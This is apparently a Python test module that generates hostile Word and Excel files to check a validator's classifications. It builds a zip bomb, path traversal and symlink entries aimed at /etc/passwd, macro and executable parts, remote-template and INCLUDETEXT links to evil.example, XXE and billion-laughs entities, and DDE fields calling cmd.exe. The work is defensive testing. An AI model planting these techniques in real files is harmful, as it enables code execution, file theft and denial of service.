"""Hostile docx and xlsx files."""

import io
import struct
import zipfile

from tests.evidence.hostile import made
from tests.files import SHEET, WORD, office_bytes

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@made("大.docx", "unpacks")
def unpacks_a_thousandfold():
    return office_bytes({WORD: b"0" * 30_000_000})


@made("多.xlsx", "unpacks")
def ten_thousand_parts():
    return office_bytes({f"xl/a{n}.bin": b"" for n in range(6_000)}, main=SHEET)


@made("叠.docx", "damaged")
def parts_that_lie_over_each_other():
    whole = bytearray(office_bytes({"a.bin": b"x" * 900, "b.bin": b"x" * 900}))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        first, second = archive.getinfo("a.bin"), archive.getinfo("b.bin")
    at = whole.rindex(struct.pack("<I", second.header_offset))
    whole[at : at + 4] = struct.pack("<I", first.header_offset)
    return bytes(whole)


@made("重.docx", "damaged")
def the_same_part_twice():
    return office_bytes({"word/a.xml": b"<x/>", "word/A.xml": b"<y/>"})


@made("校验.docx", "damaged")
def a_part_that_was_changed():
    whole = bytearray(office_bytes({"word/media/a.png": bytes(range(256))}))
    at = whole.index(b"word/media/a.png") + 20
    whole[at] ^= 0xFF
    return bytes(whole)


@made("逃.docx", "damaged")
def a_way_out_of_the_archive():
    return office_bytes({"../../etc/passwd": b"x"})


@made("根.docx", "damaged")
def a_part_at_the_root():
    return office_bytes({"/etc/passwd": b"x"})


@made("链.docx", "damaged")
def a_link_to_another_file():
    out = io.BytesIO(office_bytes({}))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


@made("密.docx", "encrypted")
def office_file_with_a_password():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 99


@made("错.docx", "damaged")
def a_sheet_by_the_name_of_a_letter():
    return office_bytes({}, main=SHEET)


@made("包.docx", "damaged")
def an_archive_of_anything():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")
    return out.getvalue()


@made("宏.docx", "macros")
def macros():
    return office_bytes({"word/vbaProject.bin": b"x"})


@made("宏.xlsx", "macros")
def macros_declared():
    types = (
        b'<Types><Override PartName="/a" '
        b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    )
    return office_bytes({}, main=SHEET, types=types)


@made("旧宏.xlsx", "macros")
def sheets_of_old_macros():
    return office_bytes({"xl/macrosheets/sheet1.xml": b"<x/>"}, main=SHEET)


@made("程序.docx", "macros")
def a_program_among_the_parts():
    return office_bytes({"word/media/a.exe": b"MZ"})


@made("对象.docx", "reaches_out")
def an_embedded_object():
    return office_bytes({"word/embeddings/oleObject1.bin": b"MZ"})


@made("控件.docx", "reaches_out")
def a_control():
    return office_bytes({"word/activeX/activeX1.xml": b"<x/>"})


@made("菜单.docx", "reaches_out")
def a_menu_of_its_own():
    return office_bytes({"customUI/customUI.xml": b"<x/>"})


@made("连接.xlsx", "reaches_out")
def connections_to_data():
    return office_bytes({"xl/connections.xml": b"<x/>"}, main=SHEET)


def _relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"'
        f' TargetMode="External"/></Relationships>'
    ).encode()


@made("模板.docx", "reaches_out")
def a_template_from_elsewhere():
    relation = _relation("attachedTemplate", "http://evil.example/x.dotm")
    return office_bytes({"word/_rels/settings.xml.rels": relation})


@made("模板.docx", "reaches_out")
def a_template_whose_relation_is_written_in_numbers():
    relation = _relation("attached&#84;emplate", "http://evil.example/x.dotm")
    return office_bytes({"word/_rels/settings.xml.rels": relation})


@made("实体.docx", "reaches_out")
def an_entity_of_a_file():
    return office_bytes(
        {
            WORD: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        }
    )


@made("实体.docx", "reaches_out")
def an_entity_behind_a_long_remark():
    remark = b"<!--" + b"-x" * 40_000 + b"-->"
    body = remark + b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    return office_bytes({WORD: body, "word/media/a.bin": bytes(range(256)) * 99})


@made("实体.docx", "reaches_out")
def an_entity_in_wide_letters():
    return office_bytes({WORD: '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16")})


@made("笑.docx", "reaches_out")
def entities_that_multiply():
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    body = f'<!DOCTYPE a [<!ENTITY l0 "哈">{lines}]><a>&l9;</a>'
    return office_bytes({WORD: body.encode()})


@made("域.docx", "reaches_out")
def a_field_that_runs_a_program():
    body = (
        f"<w:p {W}><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:p>"
    )
    return office_bytes({WORD: body.encode()})


@made("域.docx", "reaches_out")
def a_field_that_fetches():
    body = f'<w:p {W}><w:fldSimple w:instr="INCLUDETEXT http://evil.example/x"/></w:p>'
    return office_bytes({WORD: body.encode()})


@made("链接.xlsx", "reaches_out")
def a_link_to_a_program():
    return office_bytes({"xl/externalLinks/a.xml": b'<ddeLink ddeService="cmd"/>'}, main=SHEET)
